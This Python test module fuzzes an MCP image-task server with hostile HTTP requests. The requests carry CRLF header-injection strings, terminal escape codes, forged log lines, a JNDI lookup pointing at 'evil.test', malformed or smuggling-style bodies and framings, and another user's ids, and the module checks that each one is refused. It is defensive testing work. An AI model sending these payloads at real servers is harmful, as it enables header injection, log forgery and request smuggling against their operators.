"""Requests over HTTP with hostile headers, texts and bodies, and with ids of others."""

import json
import re
from base64 import b64encode
from collections.abc import Callable, Mapping
from random import Random
from typing import Any

from server.auth.served import ERAS, NEW, Served, serving_bounded
from server.auth.test_two_principals import ENTRANCES, Things, made_up, make_things, two_principals

from attack.attempts import Ground, Outcome
from attack.fuzzing import Target, target_at
from attack.recorded_logs import recorded_log
from attack.wire import Response, exchange, raw
from journey_mcp.auth import tokens_file

_INJECTED = (
    *("a\r\nx-injected: 1", "a\nx-injected: 1", "a\rx-injected: 1", "a\x00b", "a\x0bb", "a\x85b", "a\u2028b"),
    *("%0d%0ax-injected:%201", "a%0ax-injected: 1", "\\r\\nx-injected: 1", "a\r\n x-injected: 1", "a\r\n\r\n<script>"),
    *("\x1b]0;owned\x07", "\x1b[2J\x1b[31m", "\x9b31m", "\x7f\x08\x08", "\u202egnp.exe", "\U000e0041", "☺é", "\ud800"),
    *("2026-01-01 00:00:00,000 ERROR journey_mcp: forged", '", "level": "error', "${jndi:ldap://evil.test}", "%s%n{0}"),
)
_HEADERS = (
    *("host", "origin", "authorization", "mcp-name", "mcp-method", "mcp-protocol-version", "mcp-session-id", "accept"),
    *("x-forwarded-for", "x-forwarded-host", "forwarded", "content-type", "user-agent", "referer", "traceparent"),
    *("last-event-id", "cookie", "x-request-id", "x-journey-key-bfl"),
)
_PREFIXES = ("", "localhost", "http://localhost", "Bearer ", "imagine")


def _is_refused_or_answered(answer: Response) -> bool:
    """Whether a response is one of ours, with nothing in its head that the request put there."""
    head = answer.head.lower()
    is_plain = head.isascii() and all(c.isprintable() or c in "\r\n" for c in head)
    return not answer.is_failure and is_plain and "x-injected" not in head and "forged" not in head


async def hostile_headers(ground: Ground) -> Outcome:
    """Line ends, control characters and other alphabets in headers and texts reach neither headers nor the log."""
    outcome = Outcome(unit="requests with hostile headers and texts")
    settings = {"JOURNEY_MCP_TRUST_PROXY": "on"}
    with recorded_log() as log:
        async with two_principals(ground.folder, serving_bounded, **settings) as (served, *tokens):
            target = await target_at(served.address, *tokens)
            for _ in range(ground.count(3_000)):
                send = ground.random.choice((_with_header, _with_header, _with_text))
                sent, answer = await send(target, ground.random)
                outcome.attempt(held=_is_refused_or_answered(answer), what=f"{sent}: {answer.head} {answer.body[:200]}")
            for text in _INJECTED:
                problem = await _hostile_name(ground, served, tokens[0], text)
                outcome.attempt(held=problem is None, what=f"a token named {text!r}: {problem}")
    outcome.succeeded += log.problems()
    outcome.remark = f"{len(log.lines())} lines in the log"
    return outcome


async def _with_header(target: Target, random: Random) -> tuple[str, Response]:
    """Send a call with one hostile header."""
    hostile = random.choice(_PREFIXES) + random.choice(_INJECTED)
    encoded = b64encode(hostile.encode("utf-8", "surrogatepass")).decode()
    value = random.choice((hostile, hostile, f"=?base64?{encoded}?=", f'"{hostile}"'))
    body = json.dumps({"jsonrpc": "2.0", "id": 1, "method": "tools/list", "params": {}}).encode()
    headers = {**target.headers(target.tokens[0]), "mcp-protocol-version": random.choice(ERAS)}
    sent = raw(
        "POST", "/mcp", {**headers, random.choice(_HEADERS): value, "content-length": str(len(body))}.items(), body
    )
    return f"{sent!r:.500}", await exchange(target.address, sent)


async def _with_text(target: Target, random: Random) -> tuple[str, Response]:
    """Send a call with a hostile text."""
    text = random.choice(_INJECTED)
    text = text if text != "\ud800" else "x"
    arguments: dict[str, Any] = random.choice(
        (
            {"prompt": text, "wait_s": 0, "model": "z-image"},
            {"prompt": "a kite", "wait_s": 0, "model": text},
            {"prompt": "a kite", "wait_s": 0, text: 1},
        )
    )
    method, params = random.choice(
        (
            ("tools/call", {"name": "imagine", "arguments": arguments}),
            ("tools/call", {"name": "fetch_task", "arguments": {"query": text}}),
            ("tools/call", {"name": "fetch_task", "arguments": {"task_ids": [text]}}),
            ("tools/call", {"name": text, "arguments": {}}),
            ("resources/read", {"uri": f"journey://tasks/{text}"}),
            ("prompts/get", {"name": text}),
            (text, {}),
        )
    )
    return f"{method!r} {params!r}", await target.send(
        random.choice(target.tokens), random.choice(ERAS), method, params
    )


async def _hostile_name(ground: Ground, served: Served, token: str, name: str) -> str | None:
    """Name a token so, as a command and in the file; return what went wrong."""
    file = ground.folder / "tokens"
    before = file.read_bytes()
    digest = tokens_file.digest_of(tokens_file.new_token())
    try:
        tokens_file.make_entry(name, digest, ())
    except ValueError as error:
        problem = None if str(error).isprintable() else f"its error is {error!s:.100}"
    else:
        problem = "it was accepted"
    file.write_bytes(before + f"{name} sha256:{digest}\n".encode("utf-8", "surrogatepass"))
    answer = await served.call(token, "fetch_task")
    file.write_bytes(before)
    await served.call(token, "fetch_task")
    return problem or (None if answer.status in {200, 401, 503} else f"status {answer.status}")


# --- bodies

_DEEP = 100_000
_CALL = b'{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"fetch_task","arguments":%s}}'


def _bodies(random: Random) -> Mapping[str, Callable[[], bytes]]:
    """Return makers of bodies, by what is wrong with them."""
    whole = _CALL % b"{}"
    deep = random.choice((99, 101, 5_000, _DEEP))
    return {
        "nothing": lambda: b"",
        "truncated": lambda: whole[: random.randrange(len(whole))],
        "nested": lambda: random.choice((b"[" * deep, b'{"a":' * deep, _CALL % (b"[" * deep + b"]" * deep))),
        "a huge number": lambda: (
            _CALL % (b'{"wait_s":%s}' % random.choice((b"9" * 5_000, b"1e999", b"-" + b"9" * 400, b"NaN")))
        ),
        "duplicate keys": lambda: (
            _CALL % b'{"wait_s":0,"wait_s":"x"}' if random.random() < 0.5 else whole[:-1] + b',"id":2}'
        ),
        "NUL": lambda: (
            _CALL % random.choice((b'{"query":"a\\u0000b"}', b'{"query":"a\0b"}', b'{"task_ids":["\\u0000"]}', b"{}\0"))
        ),
        "invalid UTF-8": lambda: (
            _CALL % (b'{"query":"%s"}' % random.choice((b"\xff", b"\xed\xa0\x80", b"\xc0\x80", b"\xf8")))
        ),
        "lone surrogates": lambda: _CALL % (b'{"query":"%s"}' % random.choice((b"\\ud800", b"\\udc00x", b"\\ud83d"))),
        "another encoding": lambda: whole.decode().encode(
            random.choice(("utf-16", "utf-32", "utf-8-sig", "utf-16-le"))
        ),
        "many values": lambda: _CALL % (b"[" + b"0," * random.choice((1_000, 200_000)) + b"0]"),
        "a batch": lambda: b"[" + b",".join([whole] * random.choice((1, 50))) + b"]",
        "another kind": lambda: random.choice((b"null", b"1", b'"x"', b"<xml/>", b"a=b&c=d", random.randbytes(300))),
        "two messages": lambda: whole + random.choice((b"", b"\n", b"\x1e")) + whole,
    }


_TYPES = (
    *("application/json", "text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", ""),
    *("application/json; charset=utf-7", "image/svg+xml", "text/html", "application/octet-stream"),
)


def _framings(body: bytes) -> Mapping[str, tuple[Mapping[str | bytes, str | bytes], bytes, bool]]:
    """Return headers, the body as it is sent, and whether all of it is sent, by how its length is stated."""
    chunks = b"".join(
        b"%x\r\n%s\r\n" % (len(body[at : at + 50_000]), body[at : at + 50_000]) for at in range(0, len(body), 50_000)
    )
    return {
        "correct": ({"content-length": str(len(body))}, body, True),
        "chunked": ({"transfer-encoding": "chunked"}, chunks + b"0\r\n\r\n", True),
        "chunked without an end": ({"transfer-encoding": "chunked"}, chunks, False),
        "no chunks": ({"transfer-encoding": "chunked"}, b"no chunk\r\n" + body, True),
        "too long": ({"content-length": str(len(body) + 10)}, body, False),
        "too short": ({"content-length": str(len(body) // 2)}, body, True),
        "none": ({}, body, True),
        "no number": ({"content-length": "ten"}, body, True),
        "both": ({"content-length": "4", "transfer-encoding": "chunked"}, chunks + b"0\r\n\r\n", True),
        "another coding": ({"transfer-encoding": "gzip, chunked"}, chunks + b"0\r\n\r\n", True),
    }


async def hostile_bodies(ground: Ground) -> Outcome:
    """Bodies of every wrong kind at `/mcp` and `/images`: an error says so, and other callers are answered."""
    outcome = Outcome(unit="bodies of every wrong kind")
    with recorded_log() as log:
        async with two_principals(ground.folder, serving_bounded) as (served, ada, bob):
            target = await target_at(served.address, ada)
            for number in range(ground.count(3_000)):
                what, sent, is_whole = _hostile_body(target, ground.random)
                # a client that does not send all is answered so after a minute, of the manual clock
                answer = await exchange(served.address, sent)
                held = not answer.is_failure and (
                    answer.status in _REFUSED or (answer.status in {200, 202} and is_whole)
                )
                outcome.attempt(held=held, what=f"{what}: {answer.status} {answer.body[:200]}")
                if number % 100 == 0:
                    other = await served.call(bob, "fetch_task")
                    outcome.attempt(held=other.status == 200, what=f"another caller gets {other.status} after {what}")
    outcome.succeeded += log.problems()
    return outcome


_REFUSED = {400, 401, 405, 408, 413, 415, 501}


def _hostile_body(target: Target, random: Random) -> tuple[str, bytes, bool]:
    kinds = _bodies(random)
    kind = random.choice(list(kinds))
    body = kinds[kind]()
    framings = _framings(body)
    framing = random.choice(("correct",) * 6 + tuple(framings))
    more, framed, is_whole = framings[framing]
    path, media_type = random.choice(("/mcp", "/mcp", "/images")), random.choice(_TYPES[:1] * 5 + _TYPES)
    usual = {
        **target.headers(random.choice((*target.tokens * 3, "jmcp_unknown"))),
        "content-type": media_type,
        "mcp-protocol-version": random.choice(ERAS),
    }
    return (
        f"{kind}, length {framing}, as {media_type} at {path}",
        raw("POST", path, {**usual, **more}.items(), framed),
        is_whole,
    )


# --- ids


def _altered(ids: Things) -> Things:
    """Return ids as models garble them; some are read as what was meant."""
    return Things(ids.task[:-1], f"{ids.image}x", f"{ids.upload}/..", f"{ids.url}x")


async def foreign_ids(ground: Ground) -> Outcome:
    """Ids of another principal at every entrance: each answer is, to the byte, that for an id that nobody has."""
    outcome = Outcome(unit="requests with ids of another principal, whole and garbled")
    async with two_principals(ground.folder) as (served, ada, bob):
        things = await make_things(served, ada)
        target = Target(served.address, (bob,), {})
        for era in ERAS:
            for entrance, make in ENTRANCES.items():
                if entrance.startswith("tasks/") and era != NEW:
                    continue
                for change in (None, _altered):
                    before = len(served.upstream.sandbox.request_log.submissions)
                    answers = []
                    for ids in (things, made_up(things)):
                        named = change(ids) if change else ids
                        answers.append(_masked(await target.send(bob, era, *make(named)), ids, named))
                    sent = len(served.upstream.sandbox.request_log.submissions) - before
                    outcome.attempt(held=answers[0] == answers[1] and not sent, what=f"{entrance}: {answers}")
    return outcome


def _masked(answer: Response, *named: Things) -> str:
    """Return a response with placeholders for what was named, and without its date and length."""
    text = re.sub(r"(?mi)^(date|content-length):.*$", "", answer.head) + answer.body
    for ids in named:
        for name in ("image", "task", "upload", "url"):
            text = text.replace(getattr(ids, name), f"({name})")
    return text
